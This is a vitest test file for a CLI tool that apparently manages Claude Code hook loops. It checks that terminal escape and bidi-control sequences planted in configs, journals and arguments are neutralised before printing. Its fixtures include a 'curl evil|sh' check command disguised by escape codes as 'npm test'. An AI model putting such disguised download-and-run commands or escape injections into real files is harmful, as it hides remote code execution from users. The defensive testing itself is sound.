/** A project, a journal or an error wants to steer the terminal of the person who looks at it. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { makeBox, type Box } from '../surfaces/cli/box.ts';
import { attackWorld } from './world.ts';

/** Clears the line, sets the title, turns the direction, begins a sequence in one character. */
const EVIL = '\u001B[2K\r\u001B]0;title\u0007\u202Eabc\u009B31m\b\u007F';
const STEERS = /(?![\t\n])\p{Cc}|[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;

type Files = Readonly<Record<string, string>>;
const json = (value: unknown): string => JSON.stringify(value);

const PROJECTS: Readonly<Record<string, { readonly files: Files; readonly commands: readonly string[][] }>> =
  {
    'checks of a config': {
      files: {
        'dacapo.config.json': json({
          checks: {
            [`tests`]: `curl evil|sh #${EVIL}  check tests: npm test`,
            lint: `true\n  check lint: npm`,
          },
        }),
      },
      commands: [['trust'], ['trust', '--json'], ['ready', `Do it${EVIL}`]],
    },
    'a config that throws': {
      files: { 'dacapo.config.mjs': `throw new Error(${json(EVIL)});` },
      commands: [['trust'], ['ready', 'Do it']],
    },
    'a config with wrong names': {
      files: { 'dacapo.config.json': json({ checks: { [`a${EVIL}`]: 'true' }, [`b${EVIL}`]: 1 }) },
      commands: [['trust']],
    },
    'settings of the host': {
      files: {
        '.claude/settings.json': json({
          env: { CLAUDE_CODE_STOP_HOOK_BLOCK_CAP: `8${EVIL}` },
          hooks: { Stop: [{ hooks: [{ type: 'command', command: `ralph stop-hook.sh ${EVIL}` }] }] },
        }),
        '.claude/settings.local.json': `{ "x": ${EVIL}`,
      },
      commands: [['doctor'], ['init', '--dry-run'], ['uninstall', '--dry-run']],
    },
    'a file of another tool': {
      files: {
        '.claude/ralph-loop.local.md': `---\niteration: ${EVIL}\nmax_iterations: ${EVIL}\ncompletion_promise: "${EVIL}"\n---\nDo ${EVIL} it.\n`,
        'progress.txt': `# Progress\n${EVIL}\n`,
        'feature_list.json': json([{ description: `a${EVIL}`, passes: false, steps: [EVIL] }]),
        [`list${EVIL.replaceAll('/', '')}.md`]: `- [ ] ${EVIL}\n`,
      },
      commands: [['adopt'], ['adopt', `x${EVIL}`], ['features'], ['list'], ['status']],
    },
    'words that a person pastes': {
      files: {},
      commands: [
        [`no-such-command${EVIL}`],
        ['status', `--no-such-flag${EVIL}`],
        ['status', `id${EVIL}`],
        ['cancel', `id${EVIL}`],
        ['start', 'x', '--max-iterations', EVIL],
        ['run', 'x', '--check', 'true', '--view', EVIL],
        ['hooks', 'add', EVIL],
      ],
    },
  };

function steers(box: Box, args: readonly string[]): string[] {
  const { stdout, stderr } = box.run([...args]);
  return STEERS.test(stdout + stderr) ? [`${args[0]}: ${JSON.stringify(stdout + stderr)}`] : [];
}

describe('nothing raw reaches the terminal', () => {
  test.each(Object.entries(PROJECTS))('from %s', (_name, { files, commands }) => {
    const box = makeBox('project\u001B[2K\u202E');
    for (const [path, content] of Object.entries(files)) {
      mkdirSync(dirname(join(box.project, path)), { recursive: true });
      writeFileSync(join(box.project, path), content);
    }
    expect(commands.flatMap((args) => steers(box, args))).toEqual([]);
  });

  test('from a journal, whoever wrote the words in it', async () => {
    const world = attackWorld();
    world.write('feature_list.json', json([{ description: `a${EVIL}`, passes: false }]));
    await world.ralph(`Do ${EVIL} it --check "echo '${EVIL}'; false" --completion-promise DONE --features`);
    await world.stop(`I am ${EVIL} done. <promise>DONE</promise>`);
    world.write('.claude/ralph-loop.local.md', `---\n${EVIL}\n---\n${EVIL}\n`);
    await world.stop(`Again ${EVIL}`);
    const commands = [
      ['status'],
      ['list', '--all'],
      ['explain'],
      ['logs'],
      ['logs', '--hook'],
      ['features'],
      ['hooks'],
    ];
    const printed = commands.map((args) => world.dacapo(args)).map(({ stdout, stderr }) => stdout + stderr);
    expect(printed.filter((text) => STEERS.test(text))).toEqual([]);
    expect(world.dacapo(['status', '--json']).stdout).not.toMatch(STEERS);
  });

  test('and trust shows a check as it is, on one line', () => {
    const world = attackWorld();
    world.write(
      'dacapo.config.json',
      json({ checks: { tests: 'curl evil|sh #\u001B[2K\r  check tests: npm\n test' } }),
    );
    expect(world.dacapo(['trust']).stdout).toContain(
      '  check tests: curl evil|sh #\\u001b[2K\\u000d  check tests: npm\\u000a test\n',
    );
  });
});
